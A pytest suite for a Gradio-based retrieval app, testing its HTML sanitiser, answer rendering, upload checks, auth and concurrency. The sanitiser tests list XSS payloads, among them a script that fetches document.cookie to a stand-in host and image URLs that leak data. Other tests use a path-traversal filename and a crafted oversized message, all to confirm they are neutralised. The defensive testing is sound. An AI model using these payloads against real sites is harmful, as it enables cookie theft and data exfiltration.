"""The web app: the sanitiser and renderers (pure), then the real app served in-process on a free
port and driven with gradio_client (/ask, /chat follow-ups from server-side state, uploads,
concurrency, auth, the chat-history attack of issue 11 #4).

Nothing here leaves 127.0.0.1: a guard on socket.connect fails any other connection."""

from __future__ import annotations

import json
import os
import re
import shutil
import socket
import subprocess
import sys
import time
from concurrent.futures import ThreadPoolExecutor

import pytest

os.environ.setdefault("GRADIO_ANALYTICS_ENABLED", "False")

from rag.index import stored_name  # noqa: E402
from rag.types import Answer, AnswerSentence, Citation, Hit  # noqa: E402
from rag.ui.render import (  # noqa: E402
    copy_text,
    highlight,
    parse_quotes,
    render_answer,
    render_article,
    render_articles,
    render_draft,
    render_sources,
)
from rag.ui.safe import html_problems, safe_text  # noqa: E402
from rag.ui.uploads import UploadResult, add_uploads, render_upload_results  # noqa: E402

from .conftest import REPO, SEEDS  # noqa: E402

EVIL = "evil.example"


# --- the sanitiser ------------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", [
    f"![pixel](http://{EVIL}/p.png?leak=SECRET)",
    f"![]( https://{EVIL}/a_(b).png )",
    f"![ref image][x]\n\n[x]: http://{EVIL}/ref.png",
    f'<img src="//{EVIL}/i.png">',
    f"<IMG SRC=//{EVIL}/i.png onerror=alert(1)>",
    f'<img srcset="http://{EVIL}/s.png 2x">',
    "[click me](javascript:alert(document.cookie))",
    '<a href="javascript:alert(1)">x</a>',
    f'<a href="http://{EVIL}/">x</a>',
    "<script>fetch('//evil.example/'+document.cookie)</script>",
    f'<svg onload="fetch(\'//{EVIL}\')"></svg>',
    f'<div style="background:url(http://{EVIL}/bg.png)">x</div>',
    f'<iframe src="http://{EVIL}/"></iframe>',
    f'<link rel="stylesheet" href="http://{EVIL}/x.css">',
    f"[text](data:text/html;base64,PHNjcmlwdD4=) ![x](data:image/png;base64,AAAA) <http://{EVIL}/auto>",
])
def test_safe_text_leaves_nothing_the_browser_would_act_on(payload):
    out = safe_text(f"Before. {payload} After.")
    assert "<" not in out and ">" not in out  # no tag survives: every bracket is escaped
    assert html_problems(out) == []
    assert "](" not in out  # no markdown image or link remains either
    assert out.startswith("Before.") and out.endswith("After.")


def test_safe_text_keeps_readable_text():
    assert safe_text("![chart of cases](http://x/p.png)") == "[image removed: chart of cases]"
    assert safe_text("see [the report](https://x.example/r) now") == "see the report now"
    assert safe_text('Tom & Jerry said "hi" <3') == "Tom &amp; Jerry said &quot;hi&quot; &lt;3"
    assert safe_text("Beijing Protocol [1] and [2, 3]") == "Beijing Protocol [1] and [2, 3]"
    assert safe_text("a\u202eb\u200bc\x00d") == "abcd"  # bidi override, zero-width, control chars


def test_safe_text_is_fast_on_hostile_input():
    nasty = "[a](" + "(" * 20000 + "![" * 20000 + "](" * 20000
    t = time.perf_counter()
    safe_text(nasty)
    assert time.perf_counter() - t < 1.0


def test_html_problems_catches_what_the_ui_must_never_emit():
    assert html_problems('<a class="cite" href="#src-0-1" title="t">[1]</a><mark>x</mark>') == []
    assert html_problems('<img src="x">')
    assert html_problems('<a href="https://example.org/">x</a>')
    assert html_problems('<span onclick="x()">x</span>')
    assert html_problems('<span style="x">x</span>')
    assert html_problems("<script>x</script>")


# --- rendering ----------------------------------------------------------------------------------------

POISON = (f"Lantern Week opened in Harbin on 4 May 2024. ![px](http://{EVIL}/p.png?leak=1) "
          f'<img src="//{EVIL}/i.png" onerror="alert(1)"> [more](javascript:alert(1)) <script>x()</script>')


def _citation(marker=1, supported=True, text="Alpha beta. The cited sentence. Gamma.", quotes=((12, 31),),
              title="Title", **kw):
    fields = {"doc_id": "doc", "date": "2024-05-04", "paragraph": 3, "start": 100, "end": 100 + len(text),
              "score": 0.5} | kw
    return Citation(marker=marker, title=title, text=text, supported=supported, quotes=quotes, **fields)


def _hit(doc_id="doc", paragraph=3, score=0.5, text="Some paragraph.", title="Title"):
    return Hit(doc_id=doc_id, title=title, date=None, paragraph=paragraph, start=0, end=len(text), text=text,
               score=score)


def _answer(text, citations, abstained=False, notice=None, backend="extractive", **kw):
    return Answer(question="Q <b>?", text=text, citations=tuple(citations), abstained=abstained,
                  backend=backend, notice=notice, **kw)


def test_render_answer_links_markers_to_their_source_cards():
    a = _answer("First claim. [1] Second claim. [2]", [_citation(1), _citation(2, title="Other")])
    chat, panel = render_answer(a, turn=4), render_sources([a] * 5)
    assert html_problems(chat) == [] and html_problems(panel) == []
    assert re.findall(r'href="#(src-4-\d)"', chat) == ["src-4-1", "src-4-2"]
    assert 'id="src-4-1"' in panel and 'id="src-4-2"' in panel and 'id="src-0-1"' in panel
    assert "<mark>The cited sentence.</mark>" in panel  # Citation.quotes highlighted
    assert "published 2024-05-04 · paragraph 3" in panel and "Offline extractive" in chat
    assert "Q &lt;b&gt;?" in panel  # the question, escaped
    assert 'class="turn" id="turn-4" open' in panel and 'id="turn-3" open' not in panel  # newest open
    assert 'data-doc="doc" data-para="3" data-quotes="12-31"' in panel  # what the reader highlights


def test_render_answer_flags_unsupported_sentences():
    a = _answer("Backed claim. [1] Overreaching claim. [2]", [_citation(1), _citation(2, supported=False)])
    chat = render_answer(a, 0)
    assert '<span class="unsupported" title="Not supported by the cited paragraph">Overreaching claim.</span>' in chat
    assert chat.count('class="unsupported"') == 1 and "Backed claim.<sup" in chat
    assert 'class="cite bad"' in chat and "1 underlined sentence is not supported" in chat
    assert 'class="src bad"' in render_sources([a])


def test_render_answer_underlines_exactly_the_unsupported_sentence():
    "With per-sentence records, only the sentence marked unsupported is underlined, whatever its markers."
    sentences = (AnswerSentence("Backed claim.", (1,), True), AnswerSentence("Shared source, too far.", (1,), False),
                 AnswerSentence("Also backed.", (1,), True))
    a = _answer("Backed claim. [1] Shared source, too far. [1] Also backed. [1]", [_citation(1)], sentences=sentences)
    chat = render_answer(a, 0)
    assert html_problems(chat) == []
    assert re.findall(r'<span class="unsupported"[^>]*>([^<]*)</span>', chat) == ["Shared source, too far."]
    assert chat.count('href="#src-0-1"') == 3 and "1 underlined sentence is not supported" in chat


def test_render_abstention_notice_and_llm_backend():
    a = _answer("The articles don't say.", [], abstained=True, notice="The LLM failed <again>.",
                backend="openai:gpt-4o-mini")
    chat = render_answer(a, 0)
    assert 'class="rag-answer abstained"' in chat and "No answer in the indexed articles" in chat
    assert "LLM · gpt-4o-mini" in chat and "The LLM failed &lt;again&gt;." in chat
    assert "do not answer this question" in render_sources([a])
    closest = _answer("The articles don't say who chaired it. Closest passage: [1].", [_citation(1)], abstained=True)
    chat, panel = render_answer(closest, 0), render_sources([closest])
    assert 'class="cite' in chat and "The closest they come" in panel and 'id="src-0-1"' in panel


def test_searched_query_uncited_passages_and_copy_text():
    c = _citation(1, title="Award ![x](http://evil.example/p.png)")
    hits = (_hit(paragraph=3, score=0.09), _hit("other", 1, 0.05, "Left out <here>.", "Other"), _hit("x", 2, 0.01))
    a = _answer("The claim. [1]", [c], query="Where? (CSCO meeting)", hits=hits)
    chat, panel = render_answer(a, 0), render_sources([a])
    assert 'Searched for: <span class="rag-query">Where? (CSCO meeting)</span>' in chat
    assert 'class="rag-rerun"' in chat and "Searched for:" in panel
    # Retrieved but not cited: collapsed, with rank and score, the cited paragraph left out.
    uncited = panel.split('<details class="uncited">')[1]
    assert "2 more passages retrieved but not cited" in uncited
    assert "#2</span> <span class=\"hit-score\">score 0.050" in uncited and "#3</span>" in uncited
    assert "#1</span>" not in uncited and "Left out &lt;here&gt;." in uncited
    # Copy: plain Markdown with the numbered sources, nothing from the article rendered.
    md = copy_text(a)
    assert md.startswith("The claim. [1]\n\nSources:\n[1] Award [image removed: x] (2024-05-04), paragraph 3: ")
    assert "“The cited sentence.”" in md and "<" not in md
    assert safe_text(md) in chat  # the copy button copies this hidden text
    # An abstention has no query line trouble and no uncited section when nothing else was retrieved.
    assert "uncited" not in render_sources([_answer("x", [], abstained=True)])


def test_draft_is_muted_and_says_it_is_unchecked():
    assert 'class="rag-answer draft"' in render_draft("Half an ans", checking=True)
    assert "checking against the sources" in render_draft("Half", checking=True)
    assert "waiting for the language model" in render_draft("", "waiting for the language model")
    assert html_problems(render_draft(POISON, "<b>status</b>", True)) == []


def test_poisoned_text_is_inert_everywhere():
    c = _citation(1, text=POISON, quotes=((0, 44),), title=f'<img src="//{EVIL}/t.png">Lantern')
    a = _answer(POISON + " [1]", [c], hits=(_hit(text=POISON, title=POISON),), query=POISON)
    doc = _document(POISON)
    for fragment in (render_answer(a, 0), render_sources([a]), render_draft(POISON + " [1]"),
                     highlight(POISON, [(0, 44), (50, 70)]), render_article(doc, 1, [(1, 0, 44)]),
                     render_articles([doc], REPO)):
        assert html_problems(fragment) == [], fragment
        assert "<img" not in fragment and "<script" not in fragment and "javascript:" not in fragment


def _document(text, title="Lantern <Week>", date="2024-05-04"):
    from rag.types import Document, Paragraph

    half = len(text) // 2
    return Document(doc_id="lantern", path="/x/lantern.md", title=title, date=date, sha256="0" * 64,
                    text=text, paragraphs=(Paragraph(1, 0, half), Paragraph(2, half, len(text), page=3)))


def test_render_article_marks_cited_spans_and_the_focus_paragraph():
    text = "First paragraph here. Second paragraph, with the cited sentence."
    page = render_article(_document(text), 2, parse_quotes("2:0-10;1:6-15;bad;2:99-98"))
    assert html_problems(page) == []
    assert '<p class="art-p cited focus" id="art-p-2">' in page and '<p class="art-p cited" id="art-p-1">' in page
    assert "<mark>paragraph</mark>" in page and "page 3" in page
    assert "Lantern &lt;Week&gt;" in page and "Published 2024-05-04 · 2 paragraphs" in page


def test_highlight_keeps_offsets_of_the_original_text():
    text = "A < B. Then & more. End."
    assert highlight(text, [(7, 19)]) == "A &lt; B. <mark>Then &amp; more.</mark> End."
    assert highlight(text, [(7, 12), (10, 19), (50, 60)]) == "A &lt; B. <mark>Then &amp; more.</mark> End."


def test_rendering_is_linear_on_a_crafted_message():
    "Issue 11 #4: nothing the UI renders scans client markup; a 660 KB unclosed meta div is just text."
    crafted = '<div class="rag-meta">' + "x" * 660_000
    a = _answer(crafted + " [1]", [_citation(1, text=crafted, quotes=((0, 100),))], query=crafted,
                hits=(_hit(text=crafted),))
    t = time.perf_counter()
    out = render_answer(a, 0) + render_sources([a])
    assert time.perf_counter() - t < 2.0
    assert html_problems(out) == [] and '<div class="rag-meta">x' not in out


def test_render_articles_and_upload_results(settings):
    from rag.retrieval import open_retriever

    snap = open_retriever(settings).store.snapshot
    page = render_articles(snap.docs.values(), settings.uploads, snap.path.name)
    assert html_problems(page) == [] and page.count("<tr>") == len(snap.docs) + 1
    assert f"<strong>{len(snap.docs)}</strong> articles" in page and ">Published</th>" in page

    out = render_upload_results([UploadResult("a.txt", True, "a.txt: added “A”"),
                                 UploadResult("b<i>.txt", False, "b<i>.txt: binary file")])
    assert html_problems(out) == [] and "1 article added" in out and "b&lt;i&gt;.txt" in out


# --- upload checks ------------------------------------------------------------------------------------


def test_stored_name_is_safe_and_unique():
    sha = "0123456789abcdef" * 4
    assert stored_name("../../etc/passwd.txt", sha) == "passwd-0123456789.txt"
    assert stored_name("C:\\Users\\x\\My Notes.MD", sha) == "My-Notes-0123456789.md"
    assert stored_name(".hidden.html", sha) == "hidden-0123456789.html"
    assert stored_name("<script>.txt", sha) == "script-0123456789.txt"


def test_uploads_are_refused_with_a_reason_and_nothing_is_stored(tmp_path, fresh):
    "The UI's way in is the collection's (add_sources, copy=True): each refusal names the file and why."
    cases = {"empty.txt": (b"", "empty file"),
             "photo.txt": (b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, "binary file (PNG image)"),
             "report.md": (b"%PDF-1.7\n...", "not a readable PDF"),
             "data.html": (b"abc\x00def" * 10, "binary file"),
             "latin1.txt": ("Café olé, a long enough sentence.".encode("latin-1"), "not valid UTF-8"),
             "notes.pdf": (b"Plain text in a pdf-named file.", "not a PDF file"),
             "big.txt": (b"A sentence of article text.\n" * 40, "over the"),
             "tool.exe": (b"MZ" + b"\x00" * 64, ".exe files are not articles")}
    paths = []
    for i, (name, (data, _)) in enumerate(cases.items()):
        (tmp_path / str(i)).mkdir()
        (tmp_path / str(i) / name).write_bytes(data)
        paths.append(tmp_path / str(i) / name)
    results = add_uploads(paths, fresh.with_(max_file_bytes=1000), progress=False)
    assert [r.name for r in results] == list(cases)
    for r, (name, (_, reason)) in zip(results, cases.items(), strict=True):
        assert not r.ok and r.message.startswith(f"{name}: ") and reason in r.message, r.message
    assert not fresh.uploads.exists() or not list(fresh.uploads.iterdir())


def test_upload_adds_through_the_collection_and_says_what_it_added(tmp_path, fresh):
    from rag.index import build_index, collection_of, current_snapshot, load_snapshot

    build_index(fresh, progress=False, warn=lambda m: None)
    p = tmp_path / "Story (final).md"
    p.write_text("Big news\n\nSomething happened in Lanzhou on 3 March 2024. People were pleased.\n")
    (tmp_path / "again").mkdir()
    twin = tmp_path / "again" / "twin.md"
    twin.write_bytes(p.read_bytes())
    ok, dup = add_uploads([p, twin], fresh, progress=False)
    assert ok.ok and ok.message == "Story (final).md: added “Big news” (1 paragraph)"
    assert re.fullmatch(r"Story-final-[0-9a-f]{10}\.md", ok.stored)
    assert not dup.ok and dup.message == "twin.md: same content as Story (final).md in this upload"
    assert [x.name for x in fresh.uploads.iterdir()] == [ok.stored]
    assert str(fresh.uploads) in collection_of(fresh).sources
    docs = load_snapshot(current_snapshot(fresh)).docs.values()
    assert any("Lanzhou" in d.text and d.path == str(fresh.uploads / ok.stored) for d in docs)
    again = add_uploads([p], fresh, progress=False)[0]
    assert not again.ok and again.message == "Story (final).md: already in the collection, as “Big news”"


# --- the served app ------------------------------------------------------------------------------------

_LOOPBACK = {"127.0.0.1", "::1", "localhost"}


@pytest.fixture(scope="module", autouse=True)
def _loopback_only():
    "Any connection from this process to a host other than 127.0.0.1 fails the test."
    real = socket.socket.connect

    def connect(self, address):
        if self.family in (socket.AF_INET, socket.AF_INET6) and address[0] not in _LOOPBACK:
            raise AssertionError(f"test tried to reach {address}")
        return real(self, address)

    socket.socket.connect = connect
    yield
    socket.socket.connect = real


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture(scope="module")
def app_settings(tmp_path_factory, settings):
    "A writable copy of the seeds and a RAG_HOME of its own (reusing the session's vectors), indexed."
    from rag.index import build_index

    root = tmp_path_factory.mktemp("app")
    shutil.copytree(SEEDS, root / "seeds")
    (root / "home" / "cache").mkdir(parents=True)
    shutil.copytree(settings.home / "cache" / "embeddings", root / "home" / "cache" / "embeddings")
    os.symlink(settings.home / "models", root / "home" / "models")
    s = settings.with_(seeds=(root / "seeds",), home=root / "home")
    build_index(s, progress=False, warn=lambda m: None)
    return s


@pytest.fixture(scope="module")
def served(app_settings):
    import app

    before = os.environ.get("GRADIO_TEMP_DIR")
    demo = app.build_app(app_settings)
    port = free_port()
    demo.launch(server_name="127.0.0.1", server_port=port, prevent_thread_lock=True, quiet=True,
                **app.launch_options(app_settings))
    yield f"http://127.0.0.1:{port}/"
    demo.close()
    if before is None:
        os.environ.pop("GRADIO_TEMP_DIR", None)
    else:
        os.environ["GRADIO_TEMP_DIR"] = before


@pytest.fixture(scope="module")
def client(served):
    from gradio_client import Client

    return Client(served, verbose=False)


def test_the_box_is_cleared_once_so_the_next_question_typed_is_kept(app_settings):
    """The chat clears the question box when it takes the question; the streamed drafts and the
    checked answer leave it alone, so a question typed while the answer arrives is not wiped."""
    import gradio as gr

    import app

    demo = app.build_app(app_settings)
    respond = next(f.fn for f in demo.fns.values() if getattr(f, "api_name", None) == "chat")
    outputs = list(respond("What is the Beijing Protocol?", [], "extractive", 5))
    assert len(outputs) >= 2 and outputs[0][0] == ""
    assert all(box == gr.skip() for box, *_ in outputs[1:])
    assert "Beijing Protocol" in _text(outputs[-1][1][-1])


def _chat(client, question):
    "One turn through the UI's own endpoint: (chat messages, sources panel HTML)."
    _, chat, sources = client.predict(question, api_name="/chat")
    return chat, sources


def _ask(client, question) -> dict:
    return json.loads(client.predict(question, api_name="/ask"))


def _text(message) -> str:
    c = message["content"]
    return c if isinstance(c, str) else " ".join(b.get("text", "") for b in c)


def test_ask_answers_with_citations(client):
    r = _ask(client, "What is the Beijing Protocol?")
    assert not r["abstained"] and r["backend"] == "extractive"
    assert r["citations"] and "Beijing Protocol" in r["text"]
    markers = {int(n) for n in re.findall(r"\[(\d+)\]", r["text"])}
    assert markers == {c["marker"] for c in r["citations"]}
    c = r["citations"][0]
    assert {"marker", "doc_id", "title", "date", "paragraph", "start", "end", "text", "supported", "quotes"} <= set(c)
    assert c["supported"] and c["text"][c["quotes"][0][0] : c["quotes"][0][1]] in r["text"]


def test_ask_abstains_when_the_articles_do_not_say(client):
    r = _ask(client, "What is the capital of France?")
    assert r["abstained"] and r["text"].startswith("The articles don't")


def test_overlong_and_empty_questions_get_a_clear_error(client):
    from gradio_client.exceptions import AppError

    with pytest.raises(AppError, match="2,001 characters; the limit is 2,000"):
        client.predict("x" * 2001, api_name="/ask")
    with pytest.raises(AppError, match="limit is 2,000"):  # the chat endpoint checks on the server too
        client.predict("y" * 5000, api_name="/chat")
    with pytest.raises(AppError, match="empty"):
        client.predict("   ", api_name="/ask")
    # The page disables Ask on an empty box; a script sending one to /chat gets no error and no turn.
    assert "rag-answer" not in str(client.predict("   ", api_name="/chat"))


def test_search_and_list_articles(client, app_settings):
    hits = json.loads(client.predict("Beijing Protocol", 3, api_name="/search"))
    assert [h["rank"] for h in hits] == [1, 2, 3] and "Beijing Protocol" in hits[0]["text"]
    assert hits[0]["score"] >= hits[1]["score"] >= hits[2]["score"]
    from gradio_client.exceptions import AppError

    with pytest.raises(AppError, match="k must be a whole number from 1 to 50"):
        client.predict("Beijing Protocol", 0, api_name="/search")
    articles = json.loads(client.predict(api_name="/list_articles"))
    assert len(articles) >= 5 and {"doc_id", "title", "date", "paragraphs", "origin"} <= set(articles[0])
    dates = [a["date"] or "" for a in articles]
    assert dates == sorted(dates, reverse=True)


def test_chat_streams_then_shows_linked_answer_and_sources(served):
    from gradio_client import Client

    job = Client(served, verbose=False).submit("What is the Beijing Protocol?", api_name="/chat")
    updates = list(job)
    drafts = [u for u in updates if u[1] and 'class="rag-answer draft"' in _text(u[1][-1])]
    assert drafts, "the answer should stream in before it is final"
    _, chat, sources = job.outputs()[-1]
    final = _text(chat[-1])
    assert chat[-1]["role"] == "assistant" and "draft" not in final
    assert 'href="#src-0-1"' in final and 'id="src-0-1"' in sources and "<mark>" in sources
    assert "retrieved but not cited" in sources and 'class="rag-md"' in final
    assert html_problems(final) == [] and html_problems(sources) == []


def test_follow_up_uses_the_sessions_own_answers(served):
    from gradio_client import Client

    session = Client(served, verbose=False)
    _chat(session, "What was discussed at the CSCO meeting?")
    chat, sources = _chat(session, "When was it held?")
    assert len(chat) == 4  # rebuilt from the session's two answers on the server
    assert "January 17 to 19, 2025" in _text(chat[-1])
    assert "003_1aa2caca7feab17d" in sources.split('id="turn-0"')[0]  # the CSCO article, in the new turn
    assert "Searched for:" in _text(chat[-1]) and "CSCO" in _text(chat[-1])  # the rewritten query is shown
    # Another session has its own conversation: the same follow-up there has nothing to lean on.
    other, _ = _chat(Client(served, verbose=False), "When was it held?")
    assert len(other) == 2


def test_crafted_chat_history_cannot_hold_a_worker(served, app_settings):
    """Issue 11 #4: four requests each carrying a 660 KB unclosed '<div class="rag-meta">' once kept every
    answer worker busy for minutes. No event takes the chat's content as input any more (the session's
    answers live on the server), so such a message is only ever an over-long question, refused at once."""
    import httpx

    import app

    info = httpx.get(served + "gradio_api/info").json()
    assert "/chat" not in info["named_endpoints"]  # internal to the page; /ask is the API
    crafted = '<div class="rag-meta">' + "<span>x</span>" * 47_000  # about 660 KB, never closed
    from gradio_client import Client

    def attack(_):
        t = time.perf_counter()
        try:
            Client(served, verbose=False).predict(crafted, api_name="/chat")
        except Exception as e:  # noqa: BLE001 (the refusal is the expected outcome)
            return time.perf_counter() - t, str(e)
        return time.perf_counter() - t, ""

    with ThreadPoolExecutor(4) as pool:
        results = list(pool.map(attack, range(4)))
    assert all(s < 10 and "limit is 2,000" in msg for s, msg in results), results
    t = time.perf_counter()
    assert _ask(Client(served, verbose=False), "What is the Beijing Protocol?")["citations"]
    assert time.perf_counter() - t < 10
    # And structurally: the chatbot feeds no event (so its client-side value is never parsed).
    demo = app.build_app(app_settings)
    chat_ids = {b._id for b in demo.blocks.values() if b.elem_id == "chat"}
    assert all(not chat_ids & {i._id for i in fn.inputs} for fn in demo.fns.values())


def test_ten_concurrent_sessions_all_get_answers(served):
    from gradio_client import Client

    questions = ["What is the Beijing Protocol?", "Where and when was the International Workshop on Cell "
                 "Therapy for Blood Diseases held?", "When and in which city was the IACH award ceremony held?",
                 "What was discussed at the CSCO meeting?", "How many patents does Professor Xiaojun Huang hold?",
                 "What is the capital of France?"]

    def session(i):
        c = Client(served, verbose=False)
        t = time.perf_counter()
        q = questions[i % len(questions)]
        if i % 2:
            _, chat, _ = c.predict(q, api_name="/chat")
            ok = "rag-answer" in _text(chat[-1]) and "draft" not in _text(chat[-1])
        else:
            ok = bool(_ask(c, q)["text"])
        return ok, time.perf_counter() - t

    t0 = time.perf_counter()
    with ThreadPoolExecutor(12) as pool:
        results = list(pool.map(session, range(12)))
    wall = time.perf_counter() - t0
    assert all(ok for ok, _ in results)
    lat = sorted(s for _, s in results)
    print(f"\n12 concurrent sessions: all answered in {wall:.1f}s wall; per session median {lat[6]:.2f}s, "
          f"max {lat[-1]:.2f}s")


def test_upload_makes_an_article_searchable(client, app_settings, tmp_path):
    from gradio_client import handle_file

    from rag.index import current_snapshot
    from rag.retrieval import retrieve

    before = current_snapshot(app_settings)
    story = tmp_path / "Zephyr report (draft).md"
    story.write_text("Zephyr Festival report\n2024-06-02\n\n"
                     "The Zephyrine Lighthouse Festival was held in Port Quillon on June 1, 2024. "
                     "Some 4,000 visitors watched the restored lamp being lit for the first time since 1952.\n\n"
                     "Organisers said the festival will return next summer with a sailing regatta.\n")
    files, status, articles, head = client.predict([handle_file(str(story))], api_name="/add_articles")
    assert files in (None, []) and "1 article added" in status and html_problems(status) == []
    assert "Zephyr Festival report" in articles and "uploaded" in articles and "<strong>6</strong> articles" in articles
    assert "6 news articles" in head and "Zephyr Festival report" in head  # the landing page's summary
    stored = sorted(p.name for p in app_settings.uploads.iterdir())
    assert len(stored) == 1 and re.fullmatch(r"Zephyr-report-draft-[0-9a-f]{10}\.md", stored[0])
    assert current_snapshot(app_settings) != before
    hits = retrieve("Zephyrine Lighthouse Festival Port Quillon", k=3, settings=app_settings)
    assert hits[0].title == "Zephyr Festival report" and "Port Quillon" in hits[0].text
    r = _ask(client, "Where was the Zephyrine Lighthouse Festival held?")
    assert not r["abstained"] and "Port Quillon" in r["text"]
    assert r["citations"][0]["title"] == "Zephyr Festival report"
    # Gradio's temporary copy is gone; the stored copy is not served.
    temp = app_settings.home / "gradio"
    assert not [p for p in temp.rglob("*") if p.is_file() and "Zephyr" in p.name]
    import httpx

    url = client.src.rstrip("/")
    for path in (app_settings.uploads / stored[0], app_settings.home / "index" / "CURRENT",
                 app_settings.seeds[0] / "000_273eb6cdc3dda5a5.txt"):
        assert httpx.get(f"{url}/gradio_api/file={path}").status_code in (403, 404)
    # Uploading the same content again is refused, and nothing changes.
    again = tmp_path / "copy.md"
    shutil.copy(story, again)
    _, status, *_ = client.predict([handle_file(str(again))], api_name="/add_articles")
    assert "already in the collection" in status and "No article was added" in status


def test_upload_rejects_binary_files_and_keeps_the_index(client, app_settings, tmp_path):
    from gradio_client import handle_file

    from rag.index import current_snapshot
    from rag.retrieval import open_retriever

    before = current_snapshot(app_settings)
    docs_before = set(open_retriever(app_settings).store.snapshot.docs)
    png = tmp_path / "photo.txt"
    png.write_bytes(b"\x89PNG\r\n\x1a\n" + os.urandom(2048))
    nul = tmp_path / "dump.md"
    nul.write_bytes(b"header\x00\x01\x02" * 100)
    _, status, *_ = client.predict([handle_file(str(png)), handle_file(str(nul))], api_name="/add_articles")
    assert "No article was added; the index is unchanged." in status
    assert "photo.txt: binary file (PNG image), not a text article" in status
    assert "dump.md: binary file (contains NUL bytes)" in status
    assert current_snapshot(app_settings) == before
    assert set(open_retriever(app_settings).store.snapshot.docs) == docs_before
    assert not [p for p in app_settings.uploads.iterdir() if p.name.startswith(("photo", "dump"))]
    # No uploaded bytes remain in Gradio's temp dir (it leaves empty placeholder files of its own).
    assert not [p for p in (app_settings.home / "gradio").rglob("*") if p.is_file() and p.stat().st_size]


def test_poisoned_article_reaches_the_page_inert(client, tmp_path):
    from gradio_client import handle_file

    p = tmp_path / "poison.md"
    p.write_text("Lantern Week\n\n" + POISON + "\n\nLantern Week closed with a parade of 300 paper lanterns.\n")
    _, status, *_ = client.predict([handle_file(str(p))], api_name="/add_articles")
    assert "1 article added" in status
    chat, sources = _chat(client, "Where did Lantern Week open?")
    final = _text(chat[-1])
    assert "Harbin" in final
    for fragment in (final, sources):
        assert html_problems(fragment) == [] and "<img" not in fragment and "<script" not in fragment
    assert "[image removed: px]" in sources


def test_basic_auth_from_rag_auth(app_settings):
    import httpx
    from gradio_client import Client

    import app

    assert app.parse_auth("ada:pw:with:colons") == ("ada", "pw:with:colons")
    assert app.parse_auth("") is None
    with pytest.raises(SystemExit):
        app.parse_auth("no-colon")
    demo = app.build_app(app_settings)
    port = free_port()
    demo.launch(server_name="127.0.0.1", server_port=port, prevent_thread_lock=True, quiet=True,
                **app.launch_options(app_settings, ("ada", "s3cret")))
    try:
        url = f"http://127.0.0.1:{port}/"
        assert httpx.get(url + "gradio_api/info").status_code == 401
        r = _ask(Client(url, auth=("ada", "s3cret"), verbose=False), "What is the Beijing Protocol?")
        assert r["citations"]
    finally:
        demo.close()


def test_launch_options_are_safe(app_settings):
    import app

    opts = app.launch_options(app_settings)
    assert opts["share"] is False and opts["show_error"] is False and opts["enable_monitoring"] is False
    assert opts["ssr_mode"] is False and opts["max_file_size"] == "10mb" and opts["allowed_paths"] == []
    assert str(app_settings.uploads) in opts["blocked_paths"] and opts["mcp_server"] is False
    assert app.launch_options(app_settings, mcp=True)["mcp_server"] is True
    assert app.is_loopback("127.0.0.1") and app.is_loopback("::1") and not app.is_loopback("0.0.0.0")


def test_cli_help():
    out = subprocess.run([sys.executable, str(REPO / "app.py"), "--help"], capture_output=True, text=True,
                         timeout=120, env=os.environ | {"GRADIO_ANALYTICS_ENABLED": "False"})
    assert out.returncode == 0
    assert "--host" in out.stdout and "--port" in out.stdout and "RAG_AUTH" in out.stdout
    assert "--mcp" in out.stdout and "/gradio_api/mcp/" in out.stdout


def test_llm_backend_streams_a_muted_draft_then_the_checked_answer(app_settings):
    """With an LLM endpoint configured (a real HTTP server on 127.0.0.1 replaying a reply), the chat
    shows the deltas as an unchecked draft ("checking…"), then the checked answer naming the model;
    the back-end can be switched to the offline one, and /chat takes it as a parameter."""
    from gradio_client import Client

    import app

    from .fake_openai import fake_openai, text

    reply = ("The Beijing Protocol is currently the most widely used haplo-HSCT system with the best curative "
             "effect around the world [1].")
    with fake_openai() as fake:
        fake.default = text(reply)
        s = app_settings.with_(**fake.llm_settings())
        demo = app.build_app(s)
        port = free_port()
        demo.launch(server_name="127.0.0.1", server_port=port, prevent_thread_lock=True, quiet=True,
                    **app.launch_options(s))
        try:
            client = Client(f"http://127.0.0.1:{port}/", verbose=False)
            job = client.submit("What is the Beijing Protocol?", "openai", 5, api_name="/chat")
            updates = list(job)
            drafts = [_text(u[1][-1]) for u in updates if u[1] and "rag-answer draft" in _text(u[1][-1])]
            assert any("checking against the sources" in d and "haplo-HSCT" in d for d in drafts), drafts
            final = _text(job.outputs()[-1][1][-1])
            assert "LLM · test-model" in final and "draft" not in final
            assert fake.requests and fake.requests[-1].stream
            _, chat, _ = client.predict("What is the Beijing Protocol?", "extractive", 5, api_name="/chat")
            assert "Offline extractive" in _text(chat[-1]) and len(chat) == 4
        finally:
            demo.close()
